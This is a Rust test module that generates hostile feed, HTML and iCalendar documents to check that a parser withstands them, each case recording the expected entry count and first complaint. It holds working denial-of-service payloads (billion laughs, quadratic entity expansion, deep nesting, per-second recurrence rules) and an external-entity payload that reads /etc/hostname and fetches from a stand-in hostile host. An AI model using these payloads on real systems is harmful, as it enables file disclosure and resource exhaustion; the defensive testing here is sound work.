//! Documents that are made to cost time, memory or the process: entities, nesting, endless sections, huge numbers of
//! everything. They are made when asked for, so that none of them lies in git.
//!
//! What is read of each stands beside it: how many entries, and what the first complaint is about.

use std::ops::RangeInclusive;

use model::Format;

/// A hostile document.
#[derive(Clone, Debug)]
pub struct Case {
    /// What it is, in a few words.
    pub name: &'static str,
    /// What its source says it is.
    pub format: Format,
    /// Makes it; [`FULL`] is the size that its name tells.
    pub make: fn(usize) -> Vec<u8>,
    /// How many entries are read of it, at least and at most: how far a rule is followed is the reader's choice,
    /// that it ends is not.
    pub entries: RangeInclusive<usize>,
    /// What the first complaint is about; empty if there is none.
    pub complaint: &'static str,
}

const fn feed(name: &'static str, make: fn(usize) -> Vec<u8>, entries: usize, complaint: &'static str) -> Case {
    Case { name, format: Format::Auto, make, entries: entries..=entries, complaint }
}

const fn page(name: &'static str, make: fn(usize) -> Vec<u8>, entries: usize, complaint: &'static str) -> Case {
    Case { name, format: Format::Html, make, entries: entries..=entries, complaint }
}

/// A calendar whose number of entries is the reader's choice.
const fn rule(name: &'static str, make: fn(usize) -> Vec<u8>, complaint: &'static str) -> Case {
    Case { name, format: Format::Ics, make, entries: 1..=20_000, complaint }
}

/// The size that the names tell.
pub const FULL: usize = 1_000;
/// Large enough for every limit, small enough for a debug build.
pub const SMALL: usize = 140;

/// All of them. Sizes are in thousandths, as `make` takes them.
pub const CASES: &[Case] = &[
    // Entities are not expanded, and nothing is fetched.
    feed("billion laughs", billion_laughs, 1, "repaired"),
    feed("quadratic expansion", quadratic_expansion, 1, "repaired"),
    feed("external entity", external_entity, 1, "repaired"),
    // Nesting.
    feed("200,000 nested tags in a feed", |u| item(&nested("b", u)), 1, ""),
    feed("200,000 nested tags, escaped", |u| item(&nested("b", u).replace('<', "&lt;")), 1, ""),
    feed("200,000 nested items", |u| rss(&"<item>".repeat(200 * u)), 20_000, "repaired"),
    page("200,000 nested tags in a page", |u| nested("div", u).into_bytes(), 0, "page"),
    page(
        "25,000 <b>, each closed behind the next <p>",
        |_| "<b><p></b>".repeat(25_000).into_bytes(),
        0,
        "layout-changed",
    ),
    page(
        "25,000 open links, each in a table",
        |_| "<table><a href=x>".repeat(25_000).into_bytes(),
        0,
        "layout-changed",
    ),
    feed("JSON nested 100,000 deep", |u| format!("{{\"items\":{}", "[".repeat(100 * u)).into_bytes(), 0, "not-a-feed"),
    feed("JSON items nested 100,000 deep", |u| json(&"{\"_event\":".repeat(100 * u)), 0, "not-a-feed"),
    rule("100,000 events, each in the other", |u| "BEGIN:VEVENT\r\n".repeat(100 * u).into_bytes(), "date"),
    // Numbers.
    feed("200,000 items in RSS", |u| rss(&"<item><title>x</title></item>".repeat(200 * u)), 20_000, "limit"),
    feed("200,000 entries in Atom", |u| atom(&"<entry><title>x</title></entry>".repeat(200 * u)), 20_000, "limit"),
    feed("200,000 items in JSON", |u| json(&vec!["{\"title\":\"x\"}"; 200 * u].join(",")), 20_000, "limit"),
    feed("200,000 events", |u| ics(&event("").repeat(200 * u)), 20_000, "limit"),
    page("25,000 entries in a page", |_| "<li><a href=x>x</a>".repeat(25_000).into_bytes(), 20_000, "limit"),
    feed("500,000 attributes on an item", |u| rss(&element("item", 500 * u, "<title>x</title>")), 1, ""),
    feed("500,000 attributes on the root", |u| element("rss", 500 * u, "<item><title>x</title></item>").into(), 1, ""),
    feed("500,000 namespaces on the root", namespaces, 1, ""),
    page("a tag of 60,000 attributes", |u| element("p", 60 * u, "x").into(), 0, "page"),
    feed("100,000 links, dates and categories", crowd, 1, "repaired"),
    // Lengths.
    feed("a title of 20 MB", |u| rss(&format!("<item><title>{}</title></item>", long(u))), 1, ""),
    feed("a teaser of 20 MB", |u| item(&long(u)), 1, ""),
    page("a text of 20 MB in a page", |u| format!("<li><a href=x>{}</a>", long(u)).into_bytes(), 1, ""),
    feed("a summary of 20 MB in a calendar", |u| ics(&event(&format!("DESCRIPTION:{}\r\n", long(u)))), 1, ""),
    feed(
        "a date of 1 MB of digits",
        |u| rss(&format!("<item><title>x</title><pubDate>{}", "1".repeat(u * 1_000))),
        1,
        "repaired",
    ),
    page(
        "a date of 1 MB of months",
        |u| format!("<li><a href=x>x</a><time>{}", "Mai 1. ".repeat(u * 1_000 / 7)).into(),
        1,
        "date",
    ),
    // Characters.
    feed("NUL and VT in a title", |_| rss("<item><title>Neu\u{0}es \u{b}Amt</title></item>"), 1, "repaired"),
    feed("NUL and VT as references", |_| rss("<item><title>Neu&#0;es &#11;&#x1F;Amt</title></item>"), 1, ""),
    feed(
        "UTF-16 of lone surrogates",
        |u| [&b"\xff\xfe"[..], &b"\x00\xd8".repeat(u * 1_000 / 2)].concat(),
        0,
        "not-a-feed",
    ),
    feed("UTF-16 cut inside a character", |_| utf16("<rss><channel><item><title>Amt"), 0, "repaired"),
    // What opens and never closes.
    feed("1 MB of <![CDATA[", |u| item(&"<![CDATA[".repeat(u * 1_000 / 9)), 1, "repaired"),
    feed("1 MB of &", |u| item(&"&".repeat(u * 1_000)), 1, "repaired"),
    feed("1 MB of &#", |u| item(&"&#".repeat(u * 1_000 / 2)), 1, "repaired"),
    feed("1 MB of <!--", |u| item(&"<!--".repeat(u * 1_000 / 4)), 1, "repaired"),
    feed("1 MB of <!DOCTYPE [", |u| "<!DOCTYPE [".repeat(u * 1_000 / 11).into_bytes(), 0, "not-a-feed"),
    feed("1 MB of <!DOCTYPE [ in an item", |u| item(&"<!DOCTYPE [".repeat(u * 1_000 / 11)), 1, "repaired"),
    feed("1 MB of <", |u| item(&"<".repeat(u * 1_000)), 1, ""),
    feed("1 MB of <a b=\"", |u| item(&"<a b=\"".repeat(u * 1_000 / 6)), 1, ""),
    feed("1 MB of all of these", |u| item(&all().repeat(u * 1_000 / 36)), 1, ""),
    feed("1 MB of all of these, escaped", |u| item(&all().repeat(u * 1_000 / 36).replace('<', "&lt;")), 1, "repaired"),
    page("1 MB of <!-- in a page", |u| "<!--".repeat(u * 1_000 / 4).into_bytes(), 0, "layout-changed"),
    page("1 MB of & in a page", |u| format!("<li><a href=x>{}", "&".repeat(u * 1_000)).into_bytes(), 1, ""),
    page("1 MB of <![CDATA[ in a page", |u| "<svg><![CDATA[".repeat(u * 1_000 / 14).into_bytes(), 0, "layout-changed"),
    page("1 MB of all of these in a page", |u| all().repeat(u * 1_000 / 36).into_bytes(), 0, "layout-changed"),
    // Rules.
    rule("a rule for every second of 100 years", |_| ruled("FREQ=SECONDLY;UNTIL=21260101T000000Z"), "limit"),
    rule("a rule for every second in each way to say it", |_| ruled(&every_second()), "recurrence"),
    rule("2,000 rules for every second", |u| ics(&event("RRULE:FREQ=SECONDLY\r\n").repeat(2 * u)), "limit"),
    rule("1,000 rules that never come true", |u| ics(&event(&never()).repeat(u)), ""),
    rule("100,000 exceptions to a rule", exceptions, ""),
    rule("1,000 rules, 10,000 moved occurrences", moved, "limit"),
    rule("1,000 time zones with rules of their own", zones, "limit"),
];

fn rss(items: &str) -> Vec<u8> {
    format!("<rss version=\"2.0\"><channel><title>Amt</title>{items}</channel></rss>").into_bytes()
}

fn item(description: &str) -> Vec<u8> {
    let about = "<title>Neues</title><link>https://amt.example/1</link>";
    rss(&format!("<item>{about}<description>{description}</description></item>"))
}

fn atom(entries: &str) -> Vec<u8> {
    format!("<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Amt</title>{entries}</feed>").into_bytes()
}

fn json(items: &str) -> Vec<u8> {
    format!("{{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":[{items}]}}").into_bytes()
}

fn ics(events: &str) -> Vec<u8> {
    format!("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n{events}END:VCALENDAR\r\n").into_bytes()
}

fn event(line: &str) -> String {
    format!("BEGIN:VEVENT\r\nUID:u\r\nDTSTART:20260101T000000Z\r\nSUMMARY:Termin\r\n{line}END:VEVENT\r\n")
}

fn nested(tag: &str, u: usize) -> String {
    format!("<{tag}>").repeat(200 * u)
}

fn element(name: &str, attributes: usize, inside: &str) -> String {
    let attributes: String = (0..attributes).map(|n| format!(" a{n}=\"1\"")).collect();
    format!("<{name}{attributes}>{inside}</{name}>")
}

fn long(u: usize) -> String {
    "Amt ".repeat(5_000 * u)
}

fn all() -> &'static str {
    "<![CDATA[&<!--<!DOCTYPE [&#<a b=\"]]>"
}

fn ruled(rule: &str) -> Vec<u8> {
    ics(&event(&format!("RRULE:{rule}\r\n")))
}

fn never() -> String {
    "RRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=31\r\n".to_owned()
}

fn billion_laughs(_: usize) -> Vec<u8> {
    let more = |n: u32| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10));
    let entities: String = (1..=9).map(more).collect();
    let doctype = format!("<!DOCTYPE rss [<!ENTITY l0 \"haha\">{entities}]>");
    [doctype.into_bytes(), item("&l9;")].concat()
}

fn quadratic_expansion(u: usize) -> Vec<u8> {
    let doctype = format!("<!DOCTYPE rss [<!ENTITY a \"{}\">]>", "a".repeat(100 * u));
    [doctype.into_bytes(), item(&"&a;".repeat(100 * u))].concat()
}

fn external_entity(_: usize) -> Vec<u8> {
    let doctype = "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/hostname\"><!ENTITY % y SYSTEM \"https://boese.example/\">%y;]>";
    [doctype.as_bytes(), &item("Vorher &x; nachher")].concat()
}

fn namespaces(u: usize) -> Vec<u8> {
    let declared: String = (0..500 * u).map(|n| format!("xmlns:n{n}=\"urn:{n}\" ")).collect();
    format!("<rss {declared}><channel><item><title>x</title></item></channel></rss>").into_bytes()
}

fn exceptions(u: usize) -> Vec<u8> {
    let one = |n: usize| format!("EXDATE:2026{:02}{:02}T000000Z\r\n", n % 12 + 1, n % 28 + 1);
    let all: String = (0..100 * u).map(one).collect();
    ics(&event(&format!("RRULE:FREQ=DAILY\r\n{all}")))
}

fn utf16(text: &str) -> Vec<u8> {
    let mut bytes = b"\xff\xfe".to_vec();
    text.encode_utf16().for_each(|unit| bytes.extend(unit.to_le_bytes()));
    bytes.pop();
    bytes
}

/// 31 million occurrences a year, in 700 bytes.
fn every_second() -> String {
    let list = |from: u32, to: u32| (from..=to).map(|n| n.to_string()).collect::<Vec<_>>().join(",");
    let (months, days) = (list(1, 12), list(1, 31));
    let (hours, minutes) = (list(0, 23), list(0, 59));
    format!("FREQ=YEARLY;BYMONTH={months};BYMONTHDAY={days};BYHOUR={hours};BYMINUTE={minutes};BYSECOND={minutes}")
}

fn moved(u: usize) -> Vec<u8> {
    let rule = |n: usize| event("RRULE:FREQ=DAILY\r\n").replace("UID:u", &format!("UID:u{n}"));
    let occurrence = |n: usize| {
        let id = format!("RECURRENCE-ID:2026{:02}{:02}T000000Z\r\n", n % 12 + 1, n % 28 + 1);
        event(&id).replace("UID:u", &format!("UID:u{}", n % u))
    };
    let all: String = (0..u).map(rule).chain((0..10 * u).map(occurrence)).collect();
    ics(&all)
}

fn zones(u: usize) -> Vec<u8> {
    let zone = |n: usize| {
        format!(
            "BEGIN:VTIMEZONE\r\nTZID:z{n}\r\nBEGIN:STANDARD\r\nDTSTART:19701025T030000\r\nRRULE:FREQ=SECONDLY\r\n\
             TZOFFSETFROM:+0200\r\nTZOFFSETTO:+0100\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\n"
        )
    };
    let event = |n: usize| {
        let zoned = format!("DTSTART;TZID=z{n}:20260101T000000");
        event("RRULE:FREQ=DAILY\r\n").replace("DTSTART:20260101T000000Z", &zoned).replace("UID:u", &format!("UID:u{n}"))
    };
    let all: String = (0..u).map(zone).chain((0..u).map(event)).collect();
    ics(&all)
}

fn crowd(u: usize) -> Vec<u8> {
    let many =
        "<link>https://amt.example/</link><pubDate>nie</pubDate><category>Amt</category><dc:creator>A</dc:creator>";
    rss(&format!("<item><title>x</title>{}</item>", many.repeat(100 * u)))
}
